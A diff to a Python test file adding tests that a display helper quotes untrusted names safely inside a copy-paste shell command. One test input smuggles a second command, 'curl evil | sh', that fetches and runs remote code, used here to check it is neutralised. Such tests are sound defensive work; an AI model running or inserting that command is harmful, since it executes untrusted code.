@@ -2,11 +2,13 @@
 
 from __future__ import annotations
 
+import shlex
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from ferrule.policy.shown_text import MOST, disguises, shown, shown_row
+from ferrule.policy.shown_text import MOST, disguises, shown, shown_argument, shown_row
 
 
 @pytest.mark.parametrize(
@@ -76,3 +78,15 @@ def test_ascii_without_long_gaps_is_shown_as_it_is(text: str):
 
 def test_on_one_row_a_line_end_is_seen_and_passes_for_none():
     assert shown_row("a\nRun it? yes\x1b[A") == r"a⏎Run it? yes\u{1b}[A"
+
+
+@given(st.text(st.characters(codec="ascii", exclude_categories=["Cc"]), min_size=1, max_size=12))
+def test_a_name_in_a_command_to_copy_stays_one_word_of_it(name: str):
+    words = shlex.split(f"ferrule mcp trust {shown_argument(name)}")
+    assert [word for word in words[3:] if word != "--" or name == "--"][-1] == name
+    assert words[3] == ("--" if name.startswith("-") else name)
+
+
+def test_a_name_in_a_command_cannot_bring_a_command_or_a_row_of_its_own():
+    assert shown_argument("x; curl evil | sh") == "'x; curl evil | sh'"
+    assert shown_argument("a\nb") == "'a⏎b'"
